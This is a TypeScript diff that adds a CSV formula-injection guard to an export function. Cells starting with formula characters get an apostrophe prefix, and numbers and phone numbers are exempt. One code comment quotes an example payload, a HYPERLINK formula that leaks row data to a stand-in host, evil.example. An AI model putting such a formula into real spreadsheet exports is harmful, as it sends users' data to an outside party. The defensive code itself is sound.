@@ -180,6 +180,22 @@ function parseRows(text: string, delim: number): { rows: CsvRow[]; problems: Csv
   return { rows, problems };
 }
 
+// A spreadsheet reads a cell that starts with = + - @ (or their fullwidth forms, which Excel folds), a tab or a CR as
+// a formula: `-1+HYPERLINK("https://evil.example/?"&B2,"Open")` becomes a live link that leaks the row. OWASP
+// "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection — prefix such cells with an apostrophe.
+const FORMULA_START = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/u;
+// A plain number (-12, 3.5, 1 000,25) or one phone number (+380 67 123 45 67, +1 (555) 010-0199) is left alone.
+const PLAIN_NUMBER = /^[+-]?\d[\d\u00a0 ]*(?:[.,]\d+)?$/u;
+// Only digits, spaces, brackets and dashes after the +: nothing a spreadsheet could call. No nested quantifier, so
+// a long hostile cell is checked in linear time.
+const PHONE = /^\+\d[\d ()-]*$/u;
+
+/** A cell as it may be written into any CSV Kartka produces: never a formula a spreadsheet would run. */
+export function spreadsheetSafe(value: string): string {
+  if (!FORMULA_START.test(value) || PLAIN_NUMBER.test(value) || PHONE.test(value)) return value;
+  return `'${value}`;
+}
+
 function quoteCell(value: string, delimiter: string): string {
   if (
     value.includes('"') ||
@@ -199,6 +215,8 @@ export function toCsv(
   options: { delimiter?: CsvDelimiter; bom?: boolean } = {},
 ): string {
   const delimiter = options.delimiter ?? ',';
-  const body = rows.map((r) => r.map((cell) => quoteCell(cell, delimiter)).join(delimiter)).join('\r\n');
+  const body = rows
+    .map((r) => r.map((cell) => quoteCell(spreadsheetSafe(cell), delimiter)).join(delimiter))
+    .join('\r\n');
   return `${options.bom ? '\ufeff' : ''}${body}\r\n`;
 }
